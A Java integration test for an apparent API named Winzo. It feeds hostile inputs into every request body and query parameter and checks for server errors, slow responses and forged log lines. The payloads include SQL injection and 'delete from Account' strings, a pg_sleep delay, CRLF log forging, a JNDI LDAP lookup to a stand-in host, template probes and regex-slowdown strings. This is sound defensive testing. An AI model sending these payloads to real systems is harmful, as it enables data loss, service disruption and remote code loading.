package com.winzo.it.door;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.winzo.it.client.Answer;
import com.winzo.it.client.Api;
import com.winzo.it.client.Winzo;
import com.winzo.it.contract.Description;
import com.winzo.it.contract.Description.Operation;
import com.winzo.it.harness.WinzoTest;
import com.winzo.server.WinzoInstance;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import org.assertj.core.api.SoftAssertions;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Text that wants to be a statement, a line of a log, or a regular expression's ruin, in every text and parameter that can be sent. */
@WinzoTest
class HostileTextIT {

    private static final String ANY_ID = "0199a1b2-0000-7000-8000-000000000001";
    private static final String LOG_LINE = "FORGED ERROR of an attacker";

    /** A new key for signing takes some seconds. */
    private static final Duration ANSWER_MAX = Duration.ofSeconds(15);

    @ArquillianResource
    Winzo winzo;

    @ArquillianResource
    WinzoInstance instance;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' or '1'='1' --",
                "'); select pg_sleep(20); --",
                "\\'; delete from Account a; --",
                "x\r\n" + LOG_LINE,
                "${jndi:ldap://192.0.2.1/x} #{7*7} %n%n%s"
            })
    void noTextIsMoreThanText(String text) throws IOException {
        everywhere(text);

        assertThat(Files.readAllLines(instance.node().log())).noneMatch(line -> line.startsWith(LOG_LINE));
    }

    @ParameterizedTest
    @ValueSource(strings = {"a", "-", "a@", "1.", "0 "})
    void noTextTakesLongToLookAt(String part) {
        everywhere(part.repeat(2_000) + "!");
    }

    private void everywhere(String text) {
        SoftAssertions softly = new SoftAssertions();
        for (Operation operation : Description.of(winzo).operations()) {
            for (JsonNode example : operation.examples()) {
                for (JsonNode body : EachText.replacedBy(text, example)) {
                    check(softly, operation, path(operation), body);
                }
            }
            for (JsonNode parameter : operation.node().path("parameters")) {
                if (parameter.path("in").asText().equals("query")) {
                    String query =
                            parameter.path("name").asText() + "=" + URLEncoder.encode(text, StandardCharsets.UTF_8);
                    check(softly, operation, path(operation) + "?" + query, null);
                }
            }
        }
        softly.assertAll();
    }

    private void check(SoftAssertions softly, Operation operation, String path, JsonNode body) {
        Api api = apiFor(operation);
        long start = System.nanoTime();
        Answer answer = api.send(operation.method(), path, body);
        softly.assertThat(answer.status()).as("%s with %s", operation, body).isLessThan(500);
        softly.assertThat(Duration.ofNanos(System.nanoTime() - start))
                .as("%s with %s", operation, body)
                .isLessThan(ANSWER_MAX);
        if (operation.toString().equals("POST /api/admin/access-rules") && answer.status() == 201) {
            api.delete("/api/admin/access-rules/" + answer.data().path("id").asText())
                    .expect(204);
        }
    }

    private Api apiFor(Operation operation) {
        if (operation.isPublic()) {
            return winzo.api();
        }
        boolean ofStaff =
                operation.path().startsWith("/api/admin") || operation.path().startsWith("/api/trading");
        return ofStaff ? winzo.as("admin") : winzo.as("player");
    }

    private static String path(Operation operation) {
        return operation.path().replaceAll("\\{[^}]*}", ANY_ID);
    }
}
